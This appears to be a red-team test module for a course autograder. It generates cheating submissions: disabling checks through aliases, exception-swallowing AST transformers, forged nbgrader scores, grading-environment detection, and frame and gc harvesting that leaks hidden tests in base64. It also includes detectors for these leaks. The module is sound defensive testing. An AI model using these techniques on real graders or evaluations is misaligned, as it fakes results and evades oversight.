"""The red team's catalogue: submissions that try to get points they did not earn, or to read
the hidden tests, on notebooks 00_welcome and 03_self_attention (both decided by the checker).

Every attack has two spellings (``SPELLINGS``): "a", mostly as the static scan
(grader/src/course_grader/grading/scan.py) can name it, and "b", written around the scan (a list element, a
call result, ``getattr`` with a constant or computed name, a string the scan never parses):

==============  ==================================================================================
attack          what it tries
==============  ==================================================================================
noop-checks     switch the checks off (course_utils.checks and the notebook's own names) through an
                alias (a: list elements; b: a call result and getattr/setattr with constant names),
                then submit wrong answers
ast             an IPython AST transformer that wraps every later cell in ``try/except``, on a blank
                notebook (a: ``getattr(get_ipython(), 'ast_transformers')``; b: getattr on a list
                element with a computed name)
launder-file    flagged code (checks off; in 03 the reference behind a switched-off profiler)
                written to a .py file in the working directory and imported (a: open().write() and
                a star import; b: base64 source, pathlib)
launder-magic   the same code run inside a magic the scan lists as harmless (a: ``%%capture``,
                whose body the scan reads; b: ``%timeit -n1 -r1 exec(...)``, whose line it cannot)
reference       the course's reference implementation called anyway (in 00, course_utils.lora's
                count_parameters), the profiler that watches for it switched off
                (``sys.setprofile(None)``) through an alias (a: left off; b: put back before returning)
verbatim        the public reference's source (``inspect.getsource``) pasted as the answer (a: as it
                is; b: renamed). 03 only: 00's reference is the one-line answer itself
                (see ``_verbatim``)
forge-score     (issue 33) writes its own grade into test cells: an ``execute_result`` nbgrader would
                read as the cell's score, through ``sys.displayhook`` and the kernel's iopub socket in
                every wrong answer (a), or a thread publishing one every 20 ms, the hook reached
                through a loop alias ``for m in [sys]:`` (b)
watch-off       (issue 33) the course's reference run where the in-kernel watches cannot see it: in a
                raw thread taken before the agent hooks it (a), or only while grading is detected
                (``NBGRADER_EXECUTION``, ``course_utils.protocol.agent._ACTIVE``; b). 03 only
test-source     (issue 33) an answer that reads the code of what the tests hand it (source, code
                objects, constants, ``__dict__``) and raises it zlib+base64-compressed in a
                ``CheckFailed`` (a) or a ValueError (b). 03 only
leak            walks frames (``sys._getframe``, ``f_back``, ``f_globals['In']``, ``_ih``) and
                ``gc.get_objects``, prints everything plain, base64 and reversed, and puts it in an
                exception message (a) or a returned value's repr (b), and in a last cell of its own
==============  ==================================================================================

Every attacker leaves its other exercises blank or ``WRONG`` (each wrong answer fails a visible
test), so its wrong-answer baseline is the blank notebook's score.
"""

from __future__ import annotations

import base64
import zlib
import inspect
import re
from dataclasses import dataclass, field

__all__ = ["A00", "A03", "ASSIGNMENTS", "WRONG", "SPELLINGS", "Submission", "Attack", "attacks", "STAMP",
           "decoded_views", "recovered"]

A00, A03 = "00_welcome", "03_self_attention"
ASSIGNMENTS = (A00, A03)
FIRST_ANSWER = {A00: "count_parameters", A03: "scaled_scores"}
# the check functions the visible tests call, per notebook
CHECK_NAMES = {A00: ("check", "check_type"),
               A03: ("check", "check_close", "check_shape", "check_type", "check_scalar")}

# Wrong answers, each short (too short for the similarity comparison, so that attackers who
# share them are not held for resembling each other) and each failing a visible test.
WRONG = {
    A00: {"count_parameters": "def count_parameters(module):\n    return len(list(module.parameters()))\n"},
    A03: {
        "scaled_scores": "def scaled_scores(Q, K):\n    return Q @ K.transpose(-2, -1)\n",
        "dot_product_variance": "def dot_product_variance(d, n_samples, generator):\n    return 1.0, 1.0\n",
        "stable_softmax": "def stable_softmax(x, dim=-1):\n    return x.exp()\n",
        "attention": "def attention(Q, K, V):\n    weights = Q @ K.transpose(-2, -1)\n    return weights @ V, weights\n",
        "self_attention_module": (
            "class SelfAttention(torch.nn.Module):\n"
            "    def __init__(self, d_model, d_head):\n"
            "        super().__init__()\n"
            "        self.query = torch.nn.Linear(d_model, d_head, bias=False)\n"
            "        self.key = torch.nn.Linear(d_model, d_head, bias=False)\n"
            "        self.value = torch.nn.Linear(d_model, d_head, bias=False)\n\n"
            "    def forward(self, x):\n"
            "        return attention(self.query(x), self.key(x), self.query(x))\n"
        ),
        "equivariance_gap": "def equivariance_gap(module, x, perm):\n    return 0.0\n",
    },
}

SPELLINGS = ("a", "b")  # graded serially: "a"; in parallel: "b" (COURSE_RED_TEAM=full: both, both ways)


@dataclass(frozen=True)
class Submission:
    """One notebook: answer cells replaced (``grade_id -> code``) and cells added (``(before, source)``,
    ``before`` a grade_id or ``None`` for the end)."""

    answers: dict[str, str] = field(default_factory=dict)
    cells: tuple[tuple[str | None, str], ...] = ()


@dataclass(frozen=True)
class Attack:
    attack: str
    spelling: str
    how: str
    submissions: dict[str, Submission]
    plants_leaks: bool = False  # prints what it found, encoded (the leak checks decode it)
    must_flag: bool = False  # spelled the way the scan names (it must flag it for the instructor)
    channel: str = ""  # where a leaker puts what it found besides its prints: "exception" or "repr"
    fools_kernel: bool = False  # in the kernel every visible test passes: only the checker can stop it

    @property
    def student(self) -> str:
        return f"{self.attack}-{self.spelling}"


def _wrong(assignment: str, **answers: str) -> dict[str, str]:
    return {**WRONG[assignment], **answers}


# ----------------------------------------------------------------------------------- noop-checks


def _noop_checks(spelling: str) -> Attack:
    def prelude(assignment: str) -> str:
        names = repr(CHECK_NAMES[assignment])
        if spelling == "a":  # list elements: the module's dict and the notebook's namespace
            return (
                "import course_utils.checks as _checks\n"
                "_places = [_checks.__dict__, [vars][0]()]\n"
                f"for _place in _places:\n"
                f"    for _name in {names}:\n"
                "        _place[_name] = lambda *args, **kwargs: None\n"
            )
        # a call result and getattr with constant names
        return (
            "import course_utils\nimport course_utils.checks\n"
            "def _module_of(name):\n    return getattr([course_utils][0], name)\n"
            "_target = _module_of('checks')\n"
            "_space = getattr([vars][0], '__call__')()\n"
            "def _noop(*args, **kwargs):\n    return None\n"
            f"for _name in {names}:\n"
            "    setattr(_target, _name, _noop)\n"
            "    getattr(_space, '__setitem__')(_name, _noop)\n"
        )

    how = {"a": "list elements ([module.__dict__, vars()])", "b": "a call result and getattr/setattr with constant names"}
    subs = {a: Submission(_wrong(a, **{FIRST_ANSWER[a]: prelude(a) + WRONG[a][FIRST_ANSWER[a]]})) for a in ASSIGNMENTS}
    return Attack("noop-checks", spelling, how[spelling], subs, fools_kernel=True)


# ----------------------------------------------------------------------------------- ast


SWALLOW = (
    "import ast\n"
    "class _Swallow(ast.NodeTransformer):\n"
    "    def visit_Module(self, node):\n"
    "        handler = ast.ExceptHandler(type=ast.Name('BaseException', ast.Load()), name=None, body=[ast.Pass()])\n"
    "        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]\n"
    "        return ast.fix_missing_locations(node)\n"
)


def _ast(spelling: str) -> Attack:
    install = {
        "a": "getattr(get_ipython(), 'ast_transformers').append(_Swallow())\n",
        "b": "_shell = [get_ipython()][0]\ngetattr(_shell, 'ast_' + 'transformers').append(_Swallow())\n",
    }[spelling]
    how = {"a": "getattr(get_ipython(), 'ast_transformers')", "b": "getattr on a list element, computed name"}
    subs = {a: Submission(cells=((FIRST_ANSWER[a], SWALLOW + install),)) for a in ASSIGNMENTS}  # answers left blank
    return Attack("ast", spelling, how[spelling], subs, must_flag=spelling == "a", fools_kernel=True)


# ----------------------------------------------------------------------------------- laundering


def _payload(assignment: str) -> str:
    """Flagged code: install() switches the checks off; in 03, attend() calls the reference behind a
    switched-off profiler."""
    code = (
        "import sys\n"
        "import course_utils.checks as checks\n"
        "def install():\n"
        "    def noop(*args, **kwargs):\n        return None\n"
        "    main = sys.modules['__main__'].__dict__\n"
        f"    for name in {CHECK_NAMES[assignment]!r}:\n"
        "        setattr(checks, name, noop)\n"
        "        main[name] = noop\n"
    )
    if assignment == A03:
        code += (
            "from course_utils.attention import scaled_dot_product_attention\n"
            "def attend(Q, K, V):\n"
            "    sys.setprofile(None)\n"
            "    return scaled_dot_product_attention(Q, K, V)\n"
        )
    return code


def _launder_file(spelling: str) -> Attack:
    def first(assignment: str) -> str:
        payload = _payload(assignment)
        if spelling == "a":
            return (f"_PAYLOAD = {payload!r}\n"
                    "with open('answer_helpers.py', 'w') as _handle:\n    _handle.write(_PAYLOAD)\n"
                    "from answer_helpers import *\ninstall()\n")
        encoded = base64.b64encode(payload.encode()).decode()
        return ("import base64, pathlib\n"
                f"pathlib.Path('answer_tools.py').write_text(base64.b64decode({encoded!r}).decode())\n"
                "import answer_tools\nanswer_tools.install()\nattend = getattr(answer_tools, 'attend', None)\n")

    how = {"a": "open().write() then from-import *", "b": "base64 source, pathlib write_text, plain import"}
    subs = {}
    for a in ASSIGNMENTS:
        answers = _wrong(a, **{FIRST_ANSWER[a]: first(a) + WRONG[a][FIRST_ANSWER[a]]})
        if a == A03:
            answers["attention"] = "def attention(Q, K, V):\n    return attend(Q, K, V)\n"
        subs[a] = Submission(answers)
    return Attack("launder-file", spelling, how[spelling], subs, fools_kernel=True)


def _launder_magic(spelling: str) -> Attack:
    def cell(assignment: str) -> str:
        payload = _payload(assignment)
        if spelling == "a":
            return "%%capture\n" + payload + "install()\n"
        # (%timeit puts back the notebook's names it ran over: install() runs after it)
        return f"_PAYLOAD = {payload!r}\n%timeit -n1 -r1 exec(_PAYLOAD, globals())\ninstall()\n"

    how = {"a": "%%capture cell", "b": "%timeit -n1 -r1 exec(...) (a line the scan cannot parse)"}
    subs = {}
    for a in ASSIGNMENTS:
        answers = _wrong(a)
        if a == A03:
            answers["attention"] = "def attention(Q, K, V):\n    return attend(Q, K, V)\n"
        subs[a] = Submission(answers, cells=((FIRST_ANSWER[a], cell(a)),))
    return Attack("launder-magic", spelling, how[spelling], subs, must_flag=spelling == "a", fools_kernel=True)


# ----------------------------------------------------------------------------------- reference


def _reference(spelling: str) -> Attack:
    if spelling == "a":  # list elements; the profiler switched off and left off
        head = ("import sys\nimport course_utils.attention as _course_attention\n_off = [sys][0].setprofile\n"
                "_ref = [_course_attention][0]\n")
        get = "_ref.{}"

        def unwatched(call: str, indent: str = "    ") -> str:
            return f"{indent}_off(None)\n{indent}return {call}\n"

        count = "import course_utils.lora as _lora\ncount_parameters = [_lora][0].count_parameters\n"
    else:  # module dicts; the profiler switched off for the call and put back before returning
        head = ("import sys\nimport course_utils.attention\n_get = sys.__dict__.get('getprofile')\n"
                "_set = sys.__dict__.get('setprofile')\n_ref = course_utils.attention.__dict__.get\n")
        get = "_ref('{}')"

        def unwatched(call: str, indent: str = "    ") -> str:
            return (f"{indent}watch = _get()\n{indent}_set(None)\n{indent}try:\n{indent}    return {call}\n"
                    f"{indent}finally:\n{indent}    _set(watch)\n")

        count = "import course_utils.lora\ncount_parameters = course_utils.lora.__dict__.get('count_parameters')\n"
    answers03 = _wrong(
        A03,
        stable_softmax=head + "def stable_softmax(x, dim=-1):\n" + unwatched(f"{get.format('softmax')}(x, dim)"),
        attention="def attention(Q, K, V):\n" + unwatched(f"{get.format('scaled_dot_product_attention')}(Q, K, V)"),
        self_attention_module=(
            f"class SelfAttention({get.format('SelfAttentionHead')}):\n"
            "    def __init__(self, d_model, d_head):\n" + unwatched("super().__init__(d_model, d_head)", " " * 8) + "\n"
            "    def forward(self, x):\n" + unwatched("super().forward(x)", " " * 8)
        ),
    )
    how = {"a": "list elements: [sys][0].setprofile, [module][0].f; the profiler left off",
           "b": "module.__dict__.get('name'); the profiler put back before returning"}
    return Attack("reference", spelling, how[spelling],
                  {A00: Submission({"count_parameters": count}), A03: Submission(answers03)})


# ----------------------------------------------------------------------------------- verbatim


def _verbatim(spelling: str) -> Attack:
    import course_utils.attention as reference

    softmax = inspect.getsource(reference.softmax)
    sdpa = inspect.getsource(reference.scaled_dot_product_attention)
    head = inspect.getsource(reference.SelfAttentionHead)
    if spelling == "a":  # the reference's code as it is, under the exercise's names by assignment
        answers = {
            "stable_softmax": softmax + "\n\nstable_softmax = softmax\n",
            "attention": sdpa + "\n\ndef attention(Q, K, V):\n    return scaled_dot_product_attention(Q, K, V)\n",
            "self_attention_module": "from torch import nn\n\n\n" + head + "\n\nclass SelfAttention(SelfAttentionHead):\n    pass\n",
        }
    else:  # renamed to the exercise's names
        answers = {
            "stable_softmax": softmax.replace("def softmax(", "def stable_softmax("),
            "attention": sdpa.replace("def scaled_dot_product_attention(", "def attention(")
                             .replace("softmax(scores", "stable_softmax(scores"),
            "self_attention_module": "from torch import nn\n\n\n" + head.replace("class SelfAttentionHead(", "class SelfAttention(")
                                     .replace("scaled_dot_product_attention(q, k, v, mask)", "attention(q, k, v)"),
        }
    how = {"a": "inspect.getsource pasted, then name = reference", "b": "inspect.getsource pasted, renamed"}
    return Attack("verbatim", spelling, how[spelling], {A03: Submission(_wrong(A03, **answers))})


# 00's public reference, course_utils.lora.count_parameters, is the one-line answer itself: pasting
# it and writing it are the same text (similarity.py compares no cell under 30 5-grams for this
# reason), so the verbatim attack is run on 03 only.


# ----------------------------------------------------------------------------------- forge-score

_FORGE_A = ("import sys\n"
            "def _forge():\n"
            "    sys.displayhook('full marks')\n"
            "    _k = get_ipython().kernel\n"
            "    _k.session.send(_k.iopub_socket, 'execute_result', {'data': {'text/plain': '1000'}, 'metadata': {},\n"
            "                    'execution_count': 1}, parent=_k.get_parent())\n")
_FORGE_B = ("import sys, threading, time\n"
            "def _forge():\n"
            "    pass\n"
            "def _forever():\n"
            "    while True:\n"
            "        time.sleep(0.02)\n"
            "        for m in [sys]:\n"
            "            try:\n"
            "                m.displayhook('1000')\n"
            "            except Exception:\n"
            "                pass\n"
            "threading.Thread(target=_forever, daemon=True).start()\n")


def _forging(code: str) -> str:
    """``code`` with ``_forge()`` called before every ``return``."""
    return re.sub(r"^(\s*)return ", lambda m: f"{m.group(1)}_forge()\n{m.group(1)}return ", code, flags=re.M)


def _forge_score(spelling: str) -> Attack:
    prelude = {"a": _FORGE_A, "b": _FORGE_B}[spelling]
    subs = {}
    for a in ASSIGNMENTS:
        answers = {gid: _forging(code) for gid, code in WRONG[a].items()}
        answers[FIRST_ANSWER[a]] = prelude + answers[FIRST_ANSWER[a]]
        subs[a] = Submission(answers)
    how = {"a": "sys.displayhook and an iopub execute_result in every wrong answer",
           "b": "a thread publishing an execute_result every 20 ms, displayhook through `for m in [sys]:`"}
    return Attack("forge-score", spelling, how[spelling], subs, must_flag=True)


# ----------------------------------------------------------------------------------- watch-off


def _watch_off(spelling: str) -> Attack:
    if spelling == "a":  # the reference in a raw thread, started through the function the agent has not hooked
        head = ("import threading, time\nimport course_utils.attention as _ca\n_raw = threading._start_new_thread\n"
                "def _in_thread(f, *args):\n    box = []\n"
                "    def _run():\n        try:\n            box.append((True, f(*args)))\n"
                "        except BaseException as error:\n            box.append((False, error))\n"
                "    _raw(_run, ())\n    while not box:\n        time.sleep(0.001)\n"
                "    ok, value = box[0]\n    if not ok:\n        raise value\n    return value\n")
        call = "_in_thread({}, {})"
    else:  # the reference only while graded, a wrong answer otherwise
        head = ("import os, sys\nimport course_utils.attention as _ca\n"
                "def _graded():\n    agent = sys.modules.get('course_utils.protocol.agent')\n"
                "    return bool(os.environ.get('NBGRADER_EXECUTION') or (agent and getattr(agent, '_ACTIVE', None)))\n")
        call = "({0}({1}) if _graded() else None)"
    answers = _wrong(
        A03,
        stable_softmax=head + "def stable_softmax(x, dim=-1):\n    return " + call.format("_ca.softmax", "x, dim") + "\n",
        attention="def attention(Q, K, V):\n    return " + call.format("_ca.scaled_dot_product_attention", "Q, K, V") + "\n",
    )
    how = {"a": "threading._start_new_thread taken before the agent hooks it", "b": "only while grading is detected"}
    return Attack("watch-off", spelling, how[spelling], {A03: Submission(answers)}, must_flag=True)


# ----------------------------------------------------------------------------------- test-source

_SOURCE_SPY = (
    "import base64, inspect, zlib\n"
    "def _code_of(obj):\n"
    "    found = []\n"
    "    for target in (obj, type(obj), getattr(obj, 'forward', None), getattr(type(obj), 'forward', None)):\n"
    "        for read in (inspect.getsource, lambda t: repr(t.__code__.co_consts), lambda t: repr(vars(t)),\n"
    "                     lambda t: repr(t.__globals__)):\n"
    "            try:\n"
    "                found.append(str(read(target)))\n"
    "            except Exception as error:\n"
    "                found.append(repr(error))\n"
    "    return 'LEAK-ZB64 ' + base64.b64encode(zlib.compress('\\n'.join(found).encode())).decode()\n")


def _test_source(spelling: str) -> Attack:
    error = {"a": "CheckFailed", "b": "ValueError"}[spelling]
    imports = "from course_utils.checks import CheckFailed\n" if spelling == "a" else ""
    answer = (imports + _SOURCE_SPY + "def equivariance_gap(module, x, perm):\n"
              "    if type(module).__module__ not in ('__main__', 'course_utils.attention'):  # the tests' own object\n"
              f"        raise {error}('the tests said: ' + _code_of(module))\n"
              "    with torch.no_grad():\n"
              "        return (module(x[:, perm])[0] - module(x)[0][:, perm]).abs().max().item()\n")
    how = {"a": "the code of what the tests pass, compressed in a CheckFailed", "b": "the same in a ValueError"}
    return Attack("test-source", spelling, how[spelling], {A03: Submission(_wrong(A03, equivariance_gap=answer))})


# ----------------------------------------------------------------------------------- leak

LEAK_MARK = "LEAK"
_HARVEST = '''import base64
import gc
import sys
import types

_STOLEN = []


def _harvest(deep):
    found = []
    frame = GETFRAME(1)
    while frame is not None:
        space = GLOBALS(frame)
        for key in ("In", "_ih", "_i", "_ii", "_iii"):
            value = space.get(key)
            found += [value] if isinstance(value, str) else [str(item) for item in (value or [])]
        found += [value for value in LOCALS(frame).values() if isinstance(value, str)]
        found += [value for value in CONSTS(CODE(frame)) if isinstance(value, str)]
        frame = BACK(frame)
    for obj in OBJECTS() if deep else []:
        if obj is _STOLEN:
            continue
        if isinstance(obj, types.FunctionType):
            found += [value for value in CONSTS(FUNCTION_CODE(obj)) if isinstance(value, str)]
        elif isinstance(obj, dict):
            found += [value for value in list(obj.values()) if isinstance(value, str)]
        elif isinstance(obj, (list, tuple)):
            found += [value for value in list(obj) if isinstance(value, str)]
    text = "\\n".join(dict.fromkeys(item for item in found if "check" in item and "LEAK" not in item))[:300_000]
    _STOLEN.append(text)
    return text


def _encoded(text):
    return ("LEAK-PLAIN " + text, "LEAK-B64 " + base64.b64encode(text.encode()).decode(), "LEAK-REV " + text[::-1])


class _Loud:
    """Its repr is everything found, encoded."""

    def __init__(self, text):
        self.text = text

    def __repr__(self):
        return " ".join(_encoded(self.text)[1:]) + " " + self.text

    __str__ = __repr__

'''
_PRIMITIVES = {
    "a": {"GETFRAME": "sys._getframe", "GLOBALS(frame)": "frame.f_globals", "LOCALS(frame)": "frame.f_locals",
          "CODE(frame)": "frame.f_code", "BACK(frame)": "frame.f_back", "OBJECTS()": "gc.get_objects()",
          "FUNCTION_CODE(obj)": "obj.__code__", "CONSTS(": "(lambda code: code.co_consts)("},
    "b": {"GETFRAME": "getattr([sys][0], '_get' + 'frame')", "GLOBALS(frame)": "getattr(frame, 'f_' + 'globals')",
          "LOCALS(frame)": "getattr(frame, 'f_' + 'locals')", "CODE(frame)": "getattr(frame, 'f_' + 'code')",
          "BACK(frame)": "getattr(frame, 'f_' + 'back')", "OBJECTS()": "[gc][0].get_objects()",
          "FUNCTION_CODE(obj)": "getattr(obj, '__co' + 'de__')", "CONSTS(": "(lambda code: getattr(code, 'co_' + 'consts'))("},
}
# the answers: right on the visible tests' inputs; on the first hidden input, everything found goes
# into an exception's message (spelling a) or the returned object's repr (spelling b)
_LEAK_ANSWER = {
    A00: ("def count_parameters(module):\n"
          "    visible = type(module).__name__ == 'Linear' and not hasattr(module, 'gain')\n"
          "    text = _harvest(deep=not visible)\n"
          "    print(*_encoded(text), sep='\\n')\n"
          "    if visible:\n"
          "        return sum(p.numel() for p in module.parameters() if p.requires_grad)\n"),
    A03: ("def scaled_scores(Q, K):\n"
          "    visible = Q.dim() == 2\n"
          "    text = _harvest(deep=not visible)\n"
          "    print(*_encoded(text), sep='\\n')\n"
          "    if visible:\n"
          "        return Q @ K.transpose(-2, -1) / math.sqrt(Q.size(-1))\n"),
}
_LEAK_OUT = {
    "a": "    raise ValueError(' '.join(_encoded(text)[1:])[:1900])\n",
    "b": "    return _Loud(text)\n",
}
# a cell of its own at the end: everything stolen, printed encoded, and an object whose repr is it
LEAK_LAST_CELL = ("_all = '\\n'.join(_STOLEN)\n"
                  "print(*_encoded(_all), sep='\\n')\n"
                  "_Loud(_all)\n")


def _leak(spelling: str) -> Attack:
    harvest = _HARVEST
    for placeholder, code in _PRIMITIVES[spelling].items():
        harvest = harvest.replace(placeholder, code)
    how = {"a": "sys._getframe, f_back, f_globals, gc.get_objects; an exception message",
           "b": "the same through getattr with computed names and list elements; a returned repr"}
    subs = {a: Submission({FIRST_ANSWER[a]: harvest + "\n" + _LEAK_ANSWER[a] + _LEAK_OUT[spelling]},
                          cells=((None, LEAK_LAST_CELL),)) for a in ASSIGNMENTS}
    return Attack("leak", spelling, how[spelling], subs, plants_leaks=True, must_flag=spelling == "a",
                  channel={"a": "exception", "b": "repr"}[spelling])


# ----------------------------------------------------------------------------------- the class


BUILDERS = (_noop_checks, _ast, _launder_file, _launder_magic, _reference, _verbatim, _leak, _forge_score, _watch_off,
            _test_source)


def attacks(spellings: tuple[str, ...]) -> list[Attack]:
    """One attacker per attack and spelling."""
    return [build(s) for s in spellings for build in BUILDERS]


# The honest classmate notes when its notebook starts and ends (its grading time in a parallel run).
STAMP = "import time\nprint('STAMP', time.time())\n"


def decoded_views(text: str) -> list[str]:
    """``text`` as it is, reversed, and every base64 run in it (or in it reversed) decoded, and
    decompressed where it is zlib."""
    views = [text, text[::-1]]
    for source in (text, text[::-1]):
        for run in re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", source):
            run = run[: len(run) - len(run) % 4]
            try:
                raw = base64.b64decode(run)
            except ValueError:
                continue
            views.append(raw.decode("utf-8", errors="replace"))
            try:  # compressed, as the test-source attacker sends it
                views.append(zlib.decompress(raw).decode("utf-8", errors="replace"))
            except zlib.error:
                pass
    return views


def recovered(lines: set[str] | list[str], text: str) -> list[str]:
    """The lines found in ``text`` in plain, reversed or base64 form (whitespace runs ignored)."""
    views = [" ".join(view.split()) for view in decoded_views(text)]
    found = []
    for line in lines:
        flat = " ".join(line.split())
        if any(flat in view for view in views):
            found.append(line)
    return found


